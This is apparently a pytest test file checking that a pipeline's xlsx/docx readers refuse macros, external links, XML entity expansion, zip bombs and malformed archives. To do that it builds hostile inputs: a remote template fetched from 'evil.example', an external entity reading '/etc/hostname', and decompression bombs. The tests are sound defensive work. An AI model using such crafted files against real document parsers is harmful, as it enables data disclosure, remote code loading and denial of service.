"""Archives that could harm: too large, with programs in them, or leading out of themselves."""

import io
import zipfile

import pytest

from pipeline.errors import ExchangeError
from pipeline.exchange import find_format
from pipeline.exchange.docx_reading import parse_docx
from pipeline.exchange.docx_writing import render_docx
from pipeline.exchange.xlsx_reading import parse_xlsx
from pipeline.exchange.xlsx_writing import render_xlsx

RELATIONS = "xl/_rels/workbook.xml.rels"
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(data: bytes, path, parse=parse_xlsx) -> str:
    with pytest.raises(ExchangeError) as caught:
        parse(data, path)
    return f"{caught.value.message} {caught.value.remedy}"


def test_macros_are_refused_by_the_part_that_holds_them(sheet, path, edit):
    data = edit(render_xlsx(sheet), "", **{"xl/vbaProject.bin": "x"})
    assert refused(data, path).startswith("The file has macros, which are programs. Save it")


def test_macros_are_refused_by_the_kind_of_the_file(sheet, path, edit):
    types = (
        "openxmlformats-officedocument.spreadsheetml.sheet.main",
        "ms-excel.sheet.macroEnabled.main",
    )
    data = edit(render_xlsx(sheet), "[Content_Types].xml", types)
    assert "macros" in refused(data, path)


@pytest.mark.parametrize(
    ("name", "remedy"),
    [("a.xlsm", ".xlsx"), ("a.docm", ".docx"), ("a.xls", ".xlsx"), ("a.odt", ".docx")],
)
def test_a_name_says_what_is_not_read(path, name, remedy):
    with pytest.raises(ExchangeError, match=f"Save it as {remedy}"):
        find_format(path.with_name(name))


def test_an_unknown_kind_is_refused_with_those_that_are_read(path):
    with pytest.raises(
        ExchangeError, match=r"Use one of .xlsx, .docx, .csv, .xlf, .html, .json, .po"
    ):
        find_format(path.with_name("a.zip"))


@pytest.mark.parametrize("kind", ["externalLink", "oleObject", "image"])
def test_links_out_of_the_file_are_refused(sheet, path, edit, kind):
    link = (
        f'<Relationship Id="rId9" Type="{TYPE}/{kind}" Target="file:///C:/secret.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    data = edit(render_xlsx(sheet), RELATIONS, ("</Relationships>", link))
    told = refused(data, path)
    assert told.startswith(f"The file leads out of itself ({kind}): `file:///C:/secret.xlsx`.")


def test_a_template_from_the_network_is_refused(sheet, path, edit):
    link = (
        f'<Relationship Id="rId9" Type="{TYPE}/attachedTemplate" '
        'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    relations = "word/_rels/document.xml.rels"
    data = edit(render_docx(sheet), relations, ("</Relationships>", link))
    assert "attachedTemplate" in refused(data, path, parse_docx)


def test_a_web_address_that_a_program_made_clickable_does_no_harm(sheet, path, edit, same):
    link = (
        f'<Relationship Id="rId9" Type="{TYPE}/hyperlink" Target="https://www.nhs.uk" '
        'TargetMode="External"/></Relationships>'
    )
    data = edit(render_xlsx(sheet), RELATIONS, ("</Relationships>", link))
    same(parse_xlsx(data, path), sheet)


LAUGHS = '<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"])
def test_entities_are_not_opened(sheet, path, edit, part):
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    data = edit(render_xlsx(sheet), part, (head, head + LAUGHS))
    assert "document type, which is not opened" in refused(data, path)


def test_a_file_of_the_network_is_not_read(sheet, path, edit):
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    outside = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    data = edit(render_docx(sheet), "word/document.xml", (head, head + outside))
    assert "document type" in refused(data, path, parse_docx)


def bomb(size: int, **more: int) -> bytes:
    told = io.BytesIO()
    with zipfile.ZipFile(told, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * size)
        for name, length in more.items():
            archive.writestr(f"{name}.xml", b" " * length)
    return told.getvalue()


@pytest.mark.parametrize(
    "data",
    [bomb(17_000_000), bomb(1, **{f"part{n}": 9_000_000 for n in range(6)})],
    ids=["one", "many"],
)
def test_an_archive_that_grows_is_not_unpacked(path, data):
    assert len(data) < 100_000
    assert "Unpacked, the file is larger than 50 MB." in refused(data, path)


def test_an_archive_that_lies_about_its_size_is_not_unpacked(path):
    data = bytearray(bomb(17_000_000))
    # The sizes that the archive says of its second part, in both places, made 100 bytes.
    true = (17_000_000).to_bytes(4, "little")
    for _ in range(2):
        at = data.index(true)
        data[at : at + 4] = (100).to_bytes(4, "little")
    assert "damaged" in refused(bytes(data), path)


def test_too_many_parts_are_refused(path):
    told = io.BytesIO()
    with zipfile.ZipFile(told, "w") as archive:
        for number in range(2001):
            archive.writestr(f"{number}.xml", "")
    assert "2,001 parts" in refused(told.getvalue(), path)


def test_a_part_that_stands_twice_is_refused(sheet, path):
    told = io.BytesIO(render_xlsx(sheet))
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(told, "a") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    assert "holds `xl/workbook.xml` twice" in refused(told.getvalue(), path)


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "is no .xlsx file"),
        (b"hello", "is no .xlsx file"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest",
            "of the old kind (.xls, .doc), or has a password",
        ),
        (b"PK\x03\x04rest", "The file is damaged"),
        (b"a" * 10_000_001, "has 10,000,001 bytes"),
    ],
    ids=["empty", "text", "old", "damaged", "large"],
)
def test_what_is_no_archive_is_refused(path, data, said):
    assert said in refused(data, path)


def test_a_word_file_by_the_name_of_a_spreadsheet_is_refused(sheet, path):
    assert "is no .xlsx file" in refused(render_docx(sheet), path)


@pytest.mark.parametrize("share", [10, 50, 90, 99])
def test_a_file_that_is_cut_off_is_refused(sheet, path, share):
    data = render_xlsx(sheet)
    assert "damaged" in refused(data[: len(data) * share // 100], path)
